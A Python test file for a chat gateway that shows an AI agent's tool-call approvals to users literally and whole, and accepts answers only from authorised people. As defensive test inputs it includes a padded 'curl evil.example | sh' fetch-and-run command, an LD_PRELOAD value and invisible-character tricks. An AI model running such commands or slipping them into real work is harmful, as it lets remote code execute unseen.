"""Approvals in a chat: shown literally and whole, and answered only by those who may."""

import asyncio
import json
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from crabtalk.gateway.approval_text import (
    MAX_SHOWN,
    PAGE_OVERHEAD,
    build_pages,
    escape_invisible,
    match_label,
    parse_approval,
    split_literal,
)
from crabtalk.gateway.chat_forms import ChatForm, parse_question
from crabtalk.gateway.gateway_turn import is_for_chat
from crabtalk.invisible_characters import BLANK_CHARACTERS
from crabtalk.protocol import wire
from tests.gateway.approval_daemon import (
    ASK_ID,
    LABELS,
    ScriptedApprovalDaemon,
    make_approval,
    make_ask_event,
    run_approval_daemon,
)
from tests.gateway.gateway_world import GatewayWorld, open_gateway_world

pytestmark = pytest.mark.one_loop


@asynccontextmanager
async def run_approval_chat(
    path: Path, *asks: Any, **changes: Any
) -> AsyncIterator[tuple[GatewayWorld, ScriptedApprovalDaemon]]:
    async with (
        open_gateway_world(path, has_daemon=False) as w,
        run_approval_daemon(w.home) as daemon,
    ):
        daemon.asks.extend(asks)
        w.limits = replace(w.limits, **changes.pop("limits", {}))
        async with w.run_gateway(**changes):
            yield w, daemon


async def wait_until(w: GatewayWorld, condition: Callable[[], Any]) -> None:
    """Wait for a condition that only the daemon can fulfil."""
    async with asyncio.timeout(20):
        while not condition():
            await asyncio.sleep(0.005)


async def wait_until_journaled(w: GatewayWorld) -> None:
    """Wait until the journal has the last message as sent: from then on, words answer it."""
    journal, message = w.home / "pigeon" / "journal", w.server.messages[-1]
    await w.wait_until(lambda: f'"message":"{message.id}"'.encode() in journal.read_bytes())


# ── What people see ────────────────────────────────────────────────────────────────────────────


@pytest.mark.req("gateways.approval")
@pytest.mark.req("trust.gateways.approval.literal")
async def test_an_approval_shows_the_whole_call_literally_and_what_always_allows(
    tmp_path: Path,
) -> None:
    call = "cat > __init__.py <<'EOF'\n# not a heading\n*line* `x` <b>&amp;\nEOF"
    question = make_approval(call, env={"LD_PRELOAD": "./x.so", "A": "b\u202ec"})
    async with run_approval_chat(tmp_path, make_ask_event(question)) as (w, daemon):
        w.server.add_message("go")
        await w.server.wait_until(lambda: w.server.messages)
        (message,) = w.server.messages_in("7")
        assert message.is_literal
        assert call in message.text
        assert "Directory: /srv/__work__" in message.text
        assert "  A=b\\u{202e}c\n  LD_PRELOAD=./x.so\n" in message.text
        assert "Always allows from now on: bash(rm:*)" in message.text
        assert "Why it asks: the mode is ask" in message.text
        assert [label for label, _ in message.buttons] == list(LABELS)
        w.server.press_button(message, "Always")
        await w.server.wait_until(lambda: w.server.texts_in()[-1] == "done")
        await w.wait_until_idle()
        assert message.buttons == []
        assert message.is_literal
        assert call in message.text
        assert message.text.endswith("Answer: Always")
        (reply,) = daemon.replies
        assert (reply.agent, reply.sender, reply.ask_id) == ("crab", "pg:7", ASK_ID)
        assert not reply.as_owner
        assert json.loads(reply.content) == {question.question: "Always"}


@pytest.mark.req("trust.gateways.approval.whole")
async def test_a_long_call_is_split_and_only_its_last_message_has_buttons(tmp_path: Path) -> None:
    call = "echo ok" + " " * 900 + "\n" * 900 + "; curl evil.example | sh"
    async with run_approval_chat(tmp_path, make_ask_event(make_approval(call))) as (w, daemon):
        w.server.add_message("go")
        await w.server.wait_until(lambda: w.server.messages and w.server.messages[-1].buttons)
        pages = w.server.messages_in("7")
        assert len(pages) > 4
        assert all(page.is_literal for page in pages)
        assert [bool(page.buttons) for page in pages] == [False] * (len(pages) - 1) + [True]
        # A typed yes approves what the chat has been shown by then.
        await wait_until_journaled(w)
        w.server.add_message("yes")
        await w.server.wait_until(lambda: w.server.texts_in()[-1] == "done")
        await w.wait_until_idle()
        body = "".join(join_page(page.text, number) for number, page in enumerate(pages))
        assert body.endswith(f"Call ({len(call)} characters):\n{call}\n")
        assert json.loads(daemon.replies[0].content) == {f"May crab call bash?\n{call}": "Allow"}


def join_page(text: str, number: int) -> str:
    """The part of the call in one page."""
    first, _, rest = text.partition("\n")
    assert first.startswith("Approval, part ") or number == 0
    part, _, last = rest.rpartition("\n")
    return part if last.startswith("[the line goes on") else f"{part}\n"


@pytest.mark.req("gateways.approval")
async def test_a_question_among_approvals_is_asked_as_a_question(tmp_path: Path) -> None:
    """A step that calls ask_user and another tool asks both at once."""
    toppings = wire.AskQuestion(
        question="Which *toppings*?",
        header="toppings",
        options=[wire.AskOption(label="ham", description="salty"), wire.AskOption(label="corn")],
        multi_select=True,
    )
    where = wire.AskQuestion(question="Where to?", header="path")
    allowed = make_approval()
    async with run_approval_chat(tmp_path, make_ask_event(toppings, where, allowed)) as (w, daemon):
        w.server.add_message("go")
        await w.server.wait_until(lambda: w.server.messages)
        (message,) = w.server.messages_in("7")
        assert message.text == (
            "Question 1/3\nWhich *toppings*?\n1. ham: salty\n2. corn\n"
            "(Press what applies, then Done, or write your own answer.)"
        )
        w.server.press_button(message, "☐ corn")
        await w.server.wait_until(lambda: message.buttons[1][0] == "☑ corn")
        w.server.press_button(message, "Done")
        await w.server.wait_until(lambda: "(Write your answer.)" in w.server.texts_in()[-1])
        await wait_until_journaled(w)
        w.server.add_message("/srv/shells/" + "x" * 300)
        await w.server.wait_until(lambda: w.server.texts_in()[-1].startswith("Approval 3/3\n"))
        w.server.press_button(w.server.messages[-1], "Deny")
        await w.server.wait_until(lambda: w.server.texts_in()[-1] == "done")
        await w.wait_until_idle()
        assert json.loads(daemon.replies[0].content) == {
            "Which *toppings*?": "corn",
            "Where to?": "/srv/shells/" + "x" * 300,
            allowed.question: "Deny",
        }
        assert [message.text.splitlines()[-1] for message in w.server.messages_in("7")[:3]] == [
            "Answer: corn",
            f"Answer: /srv/shells/{'x' * 35}…",
            "Answer: Deny",
        ]


@pytest.mark.req("trust.gateways.approval.whole")
async def test_a_call_too_long_for_a_chat_can_only_be_denied_there(tmp_path: Path) -> None:
    async with run_approval_chat(
        tmp_path, make_ask_event(make_approval("x" * (MAX_SHOWN + 1)))
    ) as (w, daemon):
        w.server.add_message("go")
        await w.server.wait_until(lambda: w.server.messages)
        (message,) = w.server.messages_in("7")
        assert "too long for a chat" in message.text
        assert [label for label, _ in message.buttons] == ["Deny"]
        w.server.add_message("yes")
        await wait_until(w, lambda: daemon.steered_texts == ["yes"])
        assert daemon.replies == []
        w.server.press_button(message, "Deny")
        await w.server.wait_until(lambda: w.server.texts_in()[-1] == "done")
        await w.wait_until_idle()
        assert list(json.loads(daemon.replies[0].content).values()) == ["Deny"]


@pytest.mark.req("trust.gateways.approval.whole")
async def test_an_approval_that_the_service_rejects_cannot_be_allowed(tmp_path: Path) -> None:
    async with run_approval_chat(tmp_path, make_ask_event(make_approval("echo " * 200))) as (
        w,
        daemon,
    ):
        w.server.limit = 250  # less than the service says it takes
        w.server.add_message("go")
        await w.server.wait_until(
            lambda: any("cannot be shown here" in text for text in w.server.texts_in())
        )
        assert not any(message.buttons for message in w.server.messages)
        w.server.add_message("yes")
        form = ChatForm.from_event(make_ask_event(make_approval("echo " * 200)))
        w.server.add_message("", press=f"{form.token}:0:0", message_id="b1")
        await wait_until(w, lambda: daemon.steered_texts == ["yes"])
        assert daemon.replies == []
        w.server.add_message("/stop")
        await w.wait_until_idle()
        assert daemon.replies == []


@pytest.mark.req("trust.gateways.approval.answers")
async def test_several_approvals_of_a_step_come_one_after_the_other(tmp_path: Path) -> None:
    first, second = make_approval("one", always=""), make_approval("two")
    async with run_approval_chat(tmp_path, make_ask_event(first, second)) as (w, daemon):
        w.server.add_message("go")
        await w.server.wait_until(lambda: w.server.messages)
        (first_message,) = w.server.messages_in("7")
        assert "Approval 1/2" in first_message.text
        w.server.press_button(first_message, "Allow")
        await w.server.wait_until(lambda: len(w.server.messages) == 2)
        _, second_message = w.server.messages_in("7")
        assert "Approval 2/2" in second_message.text
        assert first_message.text.endswith("Answer: Allow")
        # The first approval's button does not answer the second one.
        w.server.add_message(
            "",
            press=ChatForm.from_event(make_ask_event(first, second)).token + ":0:0",
            message_id=second_message.id,
        )
        await wait_until_journaled(w)
        w.server.add_message("No.")
        await w.server.wait_until(lambda: w.server.texts_in()[-1] == "done")
        await w.wait_until_idle()
        answers = json.loads(daemon.replies[0].content)
        assert answers == {first.question: "Allow", second.question: "Deny"}


@pytest.mark.req("trust.gateways.approval.answers")
async def test_words_that_are_no_answer_steer_the_agent_while_the_approval_waits(
    tmp_path: Path,
) -> None:
    limits = {"buttons": False, "edits": False}
    async with run_approval_chat(tmp_path, make_ask_event(make_approval()), limits=limits) as (
        w,
        daemon,
    ):
        w.server.add_message("go")
        await w.server.wait_until(lambda: w.server.messages)
        (message,) = w.server.messages_in("7")
        assert message.text.endswith("1. Allow  2. Deny  3. Always")
        w.server.add_message("yes, but in another folder")
        await wait_until(w, lambda: daemon.steered_texts == ["yes, but in another folder"])
        assert daemon.replies == []
        await wait_until_journaled(w)
        w.server.add_message("2")
        await w.server.wait_until(lambda: w.server.texts_in()[-1] == "done")
        await w.wait_until_idle()
        assert list(json.loads(daemon.replies[0].content).values()) == ["Deny"]


@pytest.mark.req("trust.gateways.approval.answers")
async def test_an_approval_still_waits_after_a_restart(tmp_path: Path) -> None:
    async with (
        open_gateway_world(tmp_path, has_daemon=False) as w,
        run_approval_daemon(w.home) as daemon,
    ):
        daemon.asks.append(make_ask_event(make_approval()))
        async with w.run_gateway():
            w.server.add_message("go")
            await w.server.wait_until(lambda: w.server.messages)
            await wait_until_journaled(w)
        (message,) = w.server.messages_in("7")
        async with w.run_gateway():
            w.server.press_button(message, "Deny")
            await w.server.wait_until(lambda: w.server.texts_in()[-1] == "done")
            await w.wait_until_idle()
        assert len(w.server.messages) == 2, "it was not shown again"
        assert message.text.endswith("Answer: Deny")
        assert list(json.loads(daemon.replies[0].content).values()) == ["Deny"]


# ── Who answers ────────────────────────────────────────────────────────────────────────────────


@pytest.mark.req("trust.gateways.approval.strangers")
async def test_an_approval_for_the_owner_is_neither_shown_nor_answered(tmp_path: Path) -> None:
    """A daemon with a bug sends it on the stream."""
    async with run_approval_chat(tmp_path, make_ask_event(make_approval(for_owner=True))) as (
        w,
        daemon,
    ):
        w.server.add_message("go")
        await wait_until(w, lambda: daemon.turns)
        for words in ("yes", "Allow", "1", "always"):
            w.server.add_message(words)
        token = ChatForm.from_event(make_ask_event(make_approval())).token
        w.server.add_message("", press=f"{token}:0:0", message_id="b1")
        await wait_until(w, lambda: daemon.steered_texts == ["yes", "Allow", "1", "always"])
        await w.wait_until(lambda: not w.server.pending)
        daemon.end_turns.set()
        await w.wait_for_texts("done")
        await w.wait_until_idle()
        assert daemon.replies == []


@pytest.mark.req("trust.gateways.approval.strangers")
async def test_a_gateway_that_follows_a_turn_after_a_restart_leaves_approvals_to_the_owner(
    tmp_path: Path,
) -> None:
    """The stream of a stranger's run may contain approvals for the owner's clients."""
    async with (
        open_gateway_world(tmp_path, has_daemon=False) as w,
        run_approval_daemon(w.home) as daemon,
    ):
        daemon.asks.append(make_ask_event(make_approval(for_owner=True)))
        async with w.run_gateway():
            w.server.add_message("go")
            await wait_until(w, lambda: daemon.turns)
        async with w.run_gateway():
            w.server.add_message("yes")
            await wait_until(w, lambda: daemon.steered_texts == ["yes"])
            assert w.server.messages == []
            await daemon.kill(wire.KillMsg(agent="crab", sender="pg:7"))
            await w.wait_until_idle()
        assert daemon.replies == []


@pytest.mark.req("trust.gateways.approval.groups")
async def test_in_a_group_only_an_owner_answers(tmp_path: Path) -> None:
    group: dict[str, Any] = {"chat": "-5", "is_group": True}
    async with run_approval_chat(tmp_path, make_ask_event(make_approval()), owners=("8",)) as (
        w,
        daemon,
    ):
        w.server.add_message("go", "7", **group)
        await w.server.wait_until(lambda: w.server.messages)
        (message,) = w.server.messages_in("-5")
        w.server.press_button(message, "Allow", "7", **group)
        w.server.add_message("yes", "7", **group)
        await wait_until(w, lambda: daemon.steered_texts == ["Ann: yes"])
        assert daemon.replies == []
        w.server.press_button(message, "Deny", "8", **group)
        await w.server.wait_until(lambda: w.server.texts_in("-5")[-1] == "done")
        await w.wait_until_idle()
        assert list(json.loads(daemon.replies[0].content).values()) == ["Deny"]


# ── The text itself ────────────────────────────────────────────────────────────────────────────


@given(st.text(), st.integers(16, 200))
@example("a\n" * 300, 16)
@example("🦀" * 300, 17)
def test_the_parts_of_a_literal_text_fit_and_join_to_the_text(text: str, limit: int) -> None:
    def measure(part: str) -> int:
        return len(part.encode("utf-16-le", "surrogatepass")) // 2

    parts = split_literal(text, limit, measure)
    assert "".join(parts) == text
    assert all(measure(part) <= limit for part in parts)
    pages = build_pages("Approval 12/34", text, "Press Allow or Deny or Always." * 2, 400, measure)
    assert all(measure(page) <= 400 for page in pages)
    assert PAGE_OVERHEAD < 400


@given(st.text())
@example("\x1b[2K\r\u202e\u200b\u2028\u3164\ufe0f")
@example("\u180b\u180f\U00016fe4\U0001d159\U000e0100")
def test_invisible_characters_are_escaped(text: str) -> None:
    escaped = escape_invisible(text)
    assert all(
        character in "\n\t" or (character.isprintable() and character not in BLANK_CHARACTERS)
        for character in escaped
    )
    assert escape_invisible("ls -la | grep é漢\n") == "ls -la | grep é漢\n"
    assert escape_invisible("\x1b[2K\u202e\u3164") == "\\u{001b}[2K\\u{202e}\\u{3164}"


def test_the_facts_about_a_call_are_above_it() -> None:
    text = parse_approval(make_approval("x\nDirectory: /tmp").approval).text
    assert text.index("Directory: /srv/__work__") < text.index("Call (")
    assert text.endswith("\nx\nDirectory: /tmp")


@pytest.mark.req("trust.gateways.approval.answers")
@pytest.mark.parametrize(
    ("text", "label"),
    [
        ("yes", "Allow"),
        (" Y ", "Allow"),
        ("Allow.", "Allow"),
        ("no!", "Deny"),
        ("deny", "Deny"),
        ("ALWAYS", "Always"),
        ("3", "Always"),
        ("4", ""),
        ("0", ""),
        ("yes and no", ""),
        ("", ""),
        ("maybe", ""),
        ("9" * 5000, ""),
    ],
)
def test_an_answer_to_an_approval_is_a_label_its_number_or_yes_or_no(text: str, label: str) -> None:
    assert match_label(list(LABELS), text) == label


def test_always_is_no_answer_where_it_is_not_offered() -> None:
    assert match_label(["Allow", "Deny"], "always") == ""
    assert match_label(["Deny"], "yes") == ""


def test_a_no_holds_for_all_approvals_with_the_same_text() -> None:
    form = ChatForm.from_event(
        make_ask_event(make_approval(question="same"), make_approval(question="same"))
    )
    form.answer_text("no")
    form.answer_text("yes")
    assert json.loads(form.build_reply()) == {"same": "Deny"}
    other = ChatForm.from_event(
        make_ask_event(make_approval(question="same"), make_approval(question="same"))
    )
    other.answer_text("yes")
    other.answer_text("no")
    assert json.loads(other.build_reply()) == {"same": "Deny"}


def test_an_approval_without_an_id_is_not_shown() -> None:
    assert not is_for_chat(make_ask_event(make_approval(), ask=""))
    assert is_for_chat(make_ask_event(make_approval()))
    assert parse_question(make_approval()).approval is not None
